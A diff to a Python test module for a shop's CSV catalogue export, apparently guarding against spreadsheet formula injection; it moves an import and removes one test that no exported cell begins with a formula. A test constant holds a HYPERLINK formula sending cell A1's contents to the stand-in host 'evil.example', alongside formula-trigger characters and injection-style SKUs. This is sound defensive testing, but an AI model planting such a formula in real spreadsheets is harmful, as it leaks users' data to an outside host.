@@ -20,9 +20,9 @@ from shopcore.frames import read_price_list
 from shopcore.orders.order_rows import OrderRow
 from shopcore.spreadsheet_cells import as_text, from_text
 from shopcore.use_cases.catalogue.import_catalogue import import_catalogue
+from tests.support.exported_catalogues import texts
 from tests.support.feeds_shop import csv_of, export_csv, product_of, rows_of
 from tests.support.products import a_product
-from tests.unit.adapters.feeds.test_feeds_export import catalogues, texts
 
 FORMULAS = "=+-@\t\r\n＝＋－＠"
 LINK = '=HYPERLINK("https://evil.example/?"&A1,"Price list")'
@@ -62,17 +62,6 @@ def test_a_cell_comes_back_as_it_was_and_begins_with_no_formula(cell: str):
     """Whatever it holds."""
     assert from_text(as_text(cell)) == cell
     assert not as_text(cell).startswith(tuple(FORMULAS))
-
-
-@given(catalogues)
-def test_no_cell_of_an_exported_catalogue_begins_with_a_formula(catalogue):
-    """Of any column; that all of it comes back the same is proved beside the other exports."""
-    shop = MemoryStore(SystemClock()).shop()
-    import_catalogue(shop, rows_of(catalogue))
-    text = StringIO(export_csv(shop).decode(), newline="")
-    cells = [cell for row in csv.reader(text) for cell in row]
-
-    assert [cell for cell in cells if cell.startswith(tuple(FORMULAS))] == []
 
 
 @pytest.mark.parametrize("sku", ["=1+1", "'=1+1", "-HINGE", "@home"])
